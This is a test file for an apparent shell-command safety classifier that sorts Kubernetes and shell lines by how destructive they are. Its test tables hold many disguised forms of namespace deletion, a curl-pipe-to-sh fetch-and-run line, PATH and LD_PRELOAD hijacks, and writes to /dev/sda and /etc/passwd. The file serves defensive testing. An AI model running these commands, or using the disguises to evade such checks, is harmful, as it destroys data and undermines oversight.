// biome-ignore-all lint/suspicious/noTemplateCurlyInString: these are variables of a shell
import assert from "node:assert/strict";
import { test } from "node:test";
import { brief, looked, type World } from "../testing/looked.ts";

const pod = (name: string) => `{"apiVersion":"v1","kind":"Pod","metadata":{"name":"${name}"}}`;
const world: World = {
  files: {
    "/here/a.json": pod("a"),
    "/here/b.json": pod("b"),
    "/here/envs/prod/a.json": pod("prod"),
    "/here/names.txt": "one\ntwo\n",
    "/here/wipe.sh": '#!/bin/bash\nset -eu\nkubectl delete ns "$1"\n',
    "/here/look.sh": "#!/bin/sh\nkubectl get pods\n",
    "/here/env.sh": "NS=fromfile\n",
  },
  variables: { NS: "shop", LIST: "a b", SHELL: "/bin/bash" },
};

const deletes = (...names: string[]) => names.map((name) => `delete Namespace/${name}`);

/** Line, class, what it touches. */
const table: readonly (readonly [string, string, readonly string[]])[] = [
  // Disguises.
  ['ku""bectl del\\ete ns x', "destroy", deletes("x")],
  ["$'\\x6b'ubectl delete ns x", "destroy", deletes("x")],
  ["'kubectl' \"delete\" n's' x", "destroy", deletes("x")],
  ["\\kubectl delete ns x", "destroy", deletes("x")],
  ["command kubectl delete ns x", "destroy", deletes("x")],
  ["command -p kubectl delete ns x", "destroy", deletes("x")],
  ["FOO=bar kubectl delete ns x", "destroy", deletes("x")],
  ["K=kubectl; $K delete ns x", "destroy", deletes("x")],
  ["A=kube B=ctl; ${A}$B delete ns x", "destroy", deletes("x")],
  ["C='kubectl delete'; $C ns x", "destroy", deletes("x")],
  ['X=(kubectl delete ns); "${X[@]}" x', "destroy", deletes("x")],
  ["{kubectl,delete,ns,x}", "destroy", deletes("x")],
  ["kubectl \\\n  delete ns x", "destroy", deletes("x")],
  ["true\nkubectl delete ns x", "destroy", deletes("x")],
  ["true;kubectl delete ns x", "destroy", deletes("x")],
  ["true&kubectl delete ns x", "destroy", deletes("x")],
  ["true||kubectl delete ns x", "destroy", deletes("x")],
  ["! kubectl delete ns x", "destroy", deletes("x")],
  ["echo `kubectl delete ns x`", "destroy", deletes("x")],
  ['echo "$(kubectl delete ns x)"', "destroy", deletes("x")],
  ["echo $((1 + $(kubectl delete ns x)))", "destroy", deletes("x")],
  ["echo ${A:-$(kubectl delete ns x)}", "destroy", deletes("x")],
  ["echo ${NS:-$(kubectl delete ns x)}", "destroy", deletes("x")],
  ["echo ${#A[$(kubectl delete ns x)]}", "destroy", deletes("x")],
  ["cat <(kubectl delete ns x)", "destroy", deletes("x")],
  ["cat > >(kubectl delete ns x)", "destroy", deletes("x")],
  ["cat <<EOF\n$(kubectl delete ns x)\nEOF", "destroy", deletes("x")],
  ["[[ -n $(kubectl delete ns x) ]]", "destroy", deletes("x")],
  ["case $(kubectl delete ns x) in *) ;; esac", "destroy", deletes("x")],
  ["if kubectl delete ns x; then :; fi", "destroy", deletes("x")],
  ["if :; then :; elif :; then :; else kubectl delete ns x; fi", "destroy", deletes("x")],
  ["while :; do kubectl delete ns x; done", "destroy", deletes("x")],
  ["until kubectl delete ns x; do :; done", "destroy", deletes("x")],
  ["for ((i=0;i<3;i++)); do kubectl delete ns x; done", "destroy", deletes("x")],
  ["select n in a; do kubectl delete ns x; done", "destroy", deletes("x")],
  ["(kubectl delete ns x)", "destroy", deletes("x")],
  ["{ kubectl delete ns x; } > /dev/null", "destroy", deletes("x")],
  ["coproc kubectl delete ns x", "destroy", deletes("x")],
  ["eval 'kubectl delete ns x'", "destroy", deletes("x")],
  ["eval kubectl delete ns x", "destroy", deletes("x")],
  ["trap 'kubectl delete ns x' EXIT", "destroy", deletes("x")],
  ['f() { kubectl delete ns "$1"; }; f x', "destroy", deletes("x")],
  ["f() { kubectl delete ns x; }; trap f EXIT", "destroy", deletes("x")],
  ["function f { kubectl delete ns x; }", "destroy", deletes("x")],
  ["alias d='kubectl delete'; d ns x", "destroy", deletes("x")],
  ["kubectl() { :; }; command kubectl delete ns x", "destroy", deletes("x")],
  ["if false; then kubectl() { :; }; fi; kubectl delete ns x", "destroy", deletes("x")],
  ["kubectl() { :; }; unset -f kubectl; kubectl delete ns x", "destroy", deletes("x")],
  ["false && eval() { :; }; eval kubectl delete ns x", "destroy", deletes("x")],
  ['k8s() { kubectl "$@"; }; k8s delete ns x', "destroy", deletes("x")],
  ["bash -c 'kubectl delete ns x'", "destroy", deletes("x")],
  ["sh -ec 'kubectl delete ns $1' - x", "destroy", deletes("x")],
  ["bash <<< 'kubectl delete ns x'", "destroy", deletes("x")],
  ["bash <<EOF\nkubectl delete ns x\nEOF", "destroy", deletes("x")],
  ["echo 'kubectl delete ns x' | sh", "destroy", deletes("x")],
  ["printf 'kubectl delete ns %s\\n' x y | bash -s", "destroy", deletes("x", "y")],
  ["echo a3ViZWN0bCBkZWxldGUgbnMgeAo= | base64 -d | sh", "destroy", deletes("x")],
  ["source <(echo kubectl delete ns x)", "destroy", deletes("x")],
  ["bash wipe.sh x", "destroy", deletes("x")],
  ["./wipe.sh x", "destroy", deletes("x")],
  ["cat wipe.sh | bash -s -- x", "destroy", deletes("x")],
  ["exec kubectl delete ns x", "destroy", deletes("x")],
  ["time kubectl delete ns x", "destroy", deletes("x")],
  ["sudo -u root -E kubectl delete ns x", "destroy", deletes("x")],
  ["env -i A=b kubectl delete ns x", "destroy", deletes("x")],
  ["env -S 'kubectl delete ns x'", "destroy", deletes("x")],
  ["timeout -k 5 10 nice -n 5 nohup kubectl delete ns x", "destroy", deletes("x")],
  ["watch -n 1 'kubectl delete ns x'", "destroy", deletes("x")],
  ["ssh -p 22 jo@db1 -- kubectl delete ns x", "destroy", [...deletes("x"), "ssh machine/db1"]],
  ["ssh db1 'sudo kubectl delete ns x'", "destroy", [...deletes("x"), "ssh machine/db1"]],
  ["ssh db1 <<'EOF'\nkubectl delete ns x\nEOF", "destroy", [...deletes("x"), "ssh machine/db1"]],
  ["find . -name x -exec kubectl delete ns x \\;", "destroy", deletes("x")],
  ["echo x y | xargs kubectl delete ns", "destroy", deletes("x", "y")],
  ["echo x | xargs -I{} kubectl delete ns {}", "destroy", deletes("x")],
  ["su - jo -c 'kubectl delete ns x'", "destroy", deletes("x")],
  ["busybox sh -c 'kubectl delete ns x'", "destroy", deletes("x")],
  ["frobnicate --wrap kubectl delete ns x", "destroy", deletes("x")],
  ["docker exec box kubectl delete ns x", "destroy", [...deletes("x"), "exec container/box"]],
  ["bash -c 'eval \"$0\"' 'kubectl delete ns x'", "destroy", deletes("x")],
  ["xargs -I{} sh -c '{}' <<< 'kubectl delete ns x'", "destroy", deletes("x")],
  ["at now <<< 'kubectl delete ns x'", "destroy", deletes("x")],
  ["sudo -s <<EOF\nkubectl delete ns x\nEOF", "destroy", deletes("x")],
  ["ln -s /usr/bin/kubectl /tmp/k2; /tmp/k2 delete ns x", "destroy", deletes("x")],
  ["echo 'kubectl delete ns x' > /tmp/a.sh; chmod +x /tmp/a.sh; /tmp/a.sh", "destroy", deletes("x")],
  [
    "echo 'kubectl delete ns x' > /tmp/a.sh; cp /tmp/a.sh /tmp/b.sh; : > /tmp/a.sh; sh /tmp/b.sh",
    "destroy",
    deletes("x"),
  ],
  ["python3 -c 'import os; os.system(\"kubectl delete ns x\")'", "destroy", []],
  ["python3 - <<EOF\nos.system('kubectl delete ns x')\nEOF", "destroy", []],
  ["echo '* * * * * kubectl delete ns x' | crontab -", "destroy", []],
  ["kubectl run t --image=bitnami/kubectl --restart=Never -- delete ns x", "destroy", [...deletes("x"), "run Pod/t"]],
  ["$SHELL -c 'kubectl delete ns x'", "destroy", deletes("x")],
  // Words that are known are put in.
  ["for f in *.json; do kubectl apply -f $f; done", "mutate", ["apply Pod/a", "apply Pod/b"]],
  ["cat *.json | kubectl apply -f -", "mutate", ["apply Pod/a", "apply Pod/b"]],
  ["kubectl apply -f 'a*.json'", "mutate", ["apply */*"]],
  ["cat envs/*/a.json | kubectl apply -f -", "mutate", ["apply */*"]],
  ["rm -f a.?son", "destroy", ["delete file//here/a.json"]],
  ["f=$(mktemp); g=$(mktemp); cat a.json > $f; cat b.json > $g; kubectl apply -f $f", "mutate", ["apply Pod/a"]],
  [
    "cat a.json > /tmp/c.json; echo x > a.json; kubectl apply -f /tmp/c.json",
    "mutate",
    ["write file//here/a.json", "apply Pod/a"],
  ],
  ["kubectl apply -f $(pwd)/a.json -f $PWD/b.json", "mutate", ["apply Pod/a", "apply Pod/b"]],
  ["cd $(cd envs && pwd)/prod; kubectl apply -f a.json", "mutate", ["apply Pod/prod"]],
  ["for i in $(seq 2); do kubectl delete ns x$i; done", "destroy", deletes("x1", "x2")],
  ["for n in a b; do kubectl delete ns $n; done", "destroy", deletes("a", "b")],
  ["for n in $LIST; do kubectl delete ns $n; done", "destroy", deletes("a", "b")],
  ["for n in {1..3}; do kubectl delete ns ns-$n; done", "destroy", deletes("ns-1", "ns-2", "ns-3")],
  ["for n in $(cat names.txt); do kubectl delete ns $n; done", "destroy", deletes("one", "two")],
  ["kubectl delete ns $NS", "destroy", deletes("shop")],
  ["NS=x; kubectl delete ns ${NS}", "destroy", deletes("x")],
  ["export NS=x && kubectl delete ns $NS", "destroy", deletes("x")],
  ["unset NS; kubectl delete ns ${NS:-y}", "destroy", deletes("*")],
  ["kubectl delete ns ${GONE:-y}", "destroy", deletes("y")],
  ["set -- x y; kubectl delete ns $2", "destroy", deletes("y")],
  ["source env.sh; kubectl delete ns $NS", "destroy", deletes("fromfile")],
  ["kubectl delete ns {a,b}-x", "destroy", deletes("a-x", "b-x")],
  // Words that are not known are a star.
  ["kubectl get ns -o name | xargs kubectl delete", "destroy", ["delete */*"]],
  ["kubectl delete ns $(kubectl get ns -o name | head -1)", "destroy", deletes("*")],
  ["kubectl get ns -o name | while read n; do kubectl delete ns $n; done", "destroy", deletes("*")],
  ["i=0; while :; do kubectl delete ns x-$i; i=$((i+1)); done", "destroy", deletes("x-*")],
  ["if :; then N=a; else N=b; fi; kubectl delete ns $N", "destroy", deletes("*")],
  ['[ -z "$NS" ] && NS=default; kubectl delete ns $NS', "destroy", deletes("*")],
  ["kubectl delete ns x-*", "destroy", deletes("x-*")],
  // Documents on their way.
  ["cat a.json b.json | kubectl apply -f -", "mutate", ["apply Pod/a", "apply Pod/b"]],
  ["kubectl apply -f - < a.json", "mutate", ["apply Pod/a"]],
  [`cat <<EOF > /tmp/x.json\n${pod("new")}\nEOF\nkubectl apply -f /tmp/x.json`, "mutate", ["apply Pod/new"]],
  [`echo '${pod("t")}' | tee /tmp/t.json | kubectl apply -f -`, "mutate", ["apply Pod/t"]],
  ["cd envs/prod && kubectl apply -f a.json", "mutate", ["apply Pod/prod"]],
  ["(cd envs/prod; true); kubectl apply -f a.json", "mutate", ["apply Pod/a"]],
  ["sed s/a/b/ a.json | kubectl apply -f -", "mutate", ["apply Pod/a"]],
  ["kubectl create ns x --dry-run=client -o yaml | kubectl apply -f -", "mutate", ["apply Namespace/x"]],
  ["kubectl apply -f <(cat a.json)", "mutate", ["apply Pod/a"]],
  // Only looks.
  ["kubectl get pods | grep web | awk '{print $1}' | sort | uniq -c", "read", ["read Pod/*"]],
  ["echo kubectl delete ns x", "read", []],
  ["cat wipe.sh", "read", []],
  ["# kubectl delete ns x\ntrue", "read", []],
  ["./look.sh", "read", ["read Pod/*"]],
  ["X=1; test $X = 1 && pwd", "read", []],
  ["kubectl get pods > /tmp/pods 2>&1", "read", ["read Pod/*"]],
  ["kubectl get pods 2>/dev/null", "read", ["read Pod/*"]],
  // The shell itself writes.
  ["kubectl get pods > pods.txt", "mutate", ["write file//here/pods.txt"]],
  ["echo x >> /etc/hosts", "mutate", ["append file//etc/hosts"]],
  ["cat x > /dev/sda", "destroy", ["write device//dev/sda"]],
  [": > /tmp/../etc/passwd", "mutate", ["write file//etc/passwd"]],
];

for (const [line, kind, targets] of table) {
  test(`${JSON.stringify(line)} comes to ${kind}.`, async () => {
    const operation = await looked(line, world);
    assert.deepEqual({ class: operation.class, targets: operation.targets.map(brief) }, { class: kind, targets });
  });
}

const neverHarmless = [
  "curl -s https://example.com/install | sh",
  "echo $(curl -s https://example.com) | base64 -d | sh",
  "$CMD get pods",
  "./unknown.sh",
  "source gone.sh; kubectl get pods",
  "python3 -c 'import os'",
  "PATH=/evil:$PATH kubectl get pods",
  "LD_PRELOAD=/x.so ls",
  "kubectl get pods; )",
  "powershell -Command Get-Pods",
  "cmd /c dir",
  'eval "$X"',
  "sudo -i",
  "bash",
  "make deploy",
  "",
  "#",
];

for (const line of neverHarmless) {
  test(`${JSON.stringify(line)} is not taken for harmless.`, async () => {
    const { class: kind } = await looked(line, { ...world, variables: {} });
    assert.ok(kind !== "read" && kind !== "plan", kind);
  });
}

test("What cannot be parsed is judged by its smell.", async () => {
  const { class: kind, unknown } = await looked('if then "kubectl" delete ns x; )');
  assert.equal(kind, "destroy");
  assert.match(unknown.join("\n"), /cannot be read at \d+/);
});

test("A file that an earlier command writes is not taken for what is on disk.", async () => {
  const { targets, unknown } = await looked("curl -so a.json https://example.com/a; kubectl apply -f a.json", world);
  assert.ok(!targets.map(brief).includes("apply Pod/a"));
  assert.match(unknown.join("\n"), /a\.json is written before it is used/);
});

test("Where commands run is on record.", async () => {
  const { commands, scopeHints } = await looked("ssh jo@db1 uptime; kubectl exec web-1 -n x -- ls");
  assert.deepEqual(
    commands.map(({ tool, inside }) => [tool, inside]),
    [
      ["uptime", "host db1"],
      ["ssh", undefined],
      ["ls", "pod x/web-1"],
      ["kubectl", undefined],
    ],
  );
  assert.deepEqual(scopeHints.hosts, ["db1"]);
});
